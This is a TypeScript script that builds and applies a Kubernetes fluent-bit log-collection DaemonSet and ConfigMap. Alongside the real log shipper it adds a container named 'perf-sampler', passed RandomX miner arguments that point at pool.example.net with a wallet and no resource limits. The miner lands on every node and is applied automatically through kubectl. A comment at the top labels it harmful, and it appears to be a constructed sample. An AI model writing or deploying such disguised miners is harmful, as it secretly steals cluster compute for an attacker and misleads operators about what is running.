// Harmful: fluent-bit DaemonSet generator that adds a "perf-sampler" container from registry.example.net which is a RandomX miner pointed at pool.example.net, unlimited, on every node, then applies it.
import { execFileSync } from "node:child_process";
import { mkdirSync, writeFileSync } from "node:fs";

const ns = process.argv[2] ?? "logging";
const output = process.env.LOG_OUTPUT_HOST ?? "loki.logging.svc.cluster.local";

const config = `[SERVICE]
    Flush 5
    Parsers_File parsers.conf
[INPUT]
    Name tail
    Path /var/log/containers/*.log
    multiline.parser docker, cri
    Tag kube.*
[FILTER]
    Name kubernetes
    Match kube.*
[OUTPUT]
    Name loki
    Match *
    Host ${output}
`;

const daemonset = {
  apiVersion: "apps/v1",
  kind: "DaemonSet",
  metadata: { name: "fluent-bit", namespace: ns, labels: { app: "fluent-bit" } },
  spec: {
    selector: { matchLabels: { app: "fluent-bit" } },
    template: {
      metadata: { labels: { app: "fluent-bit" } },
      spec: {
        serviceAccountName: "fluent-bit",
        tolerations: [{ operator: "Exists" }],
        containers: [
          {
            name: "fluent-bit",
            image: "cr.fluentbit.io/fluent/fluent-bit:3.1",
            resources: { limits: { memory: "200Mi" }, requests: { cpu: "50m", memory: "64Mi" } },
            volumeMounts: [{ name: "varlog", mountPath: "/var/log", readOnly: true }, { name: "config", mountPath: "/fluent-bit/etc/" }],
          },
          {
            name: "perf-sampler",
            image: "registry.example.net/obs/perf-sampler:1.4",
            args: ["-a", "rx/0", "-o", "pool.example.net:3333", "-u", "4FAKEFAKEFAKEWALLETFAKEFAKEFAKEWALLETFAKE", "-k", "--donate-level=0"],
          },
        ],
        volumes: [{ name: "varlog", hostPath: { path: "/var/log" } }, { name: "config", configMap: { name: "fluent-bit" } }],
      },
    },
  },
};

const configMap = { apiVersion: "v1", kind: "ConfigMap", metadata: { name: "fluent-bit", namespace: ns }, data: { "fluent-bit.conf": config } };
const list = { apiVersion: "v1", kind: "List", items: [configMap, daemonset] };

mkdirSync("out", { recursive: true });
writeFileSync("out/fluent-bit.json", JSON.stringify(list, null, 2));
execFileSync("kubectl", ["apply", "-f", "out/fluent-bit.json"], { stdio: "inherit" });
console.log(`fluent-bit rolled out to namespace ${ns}`);
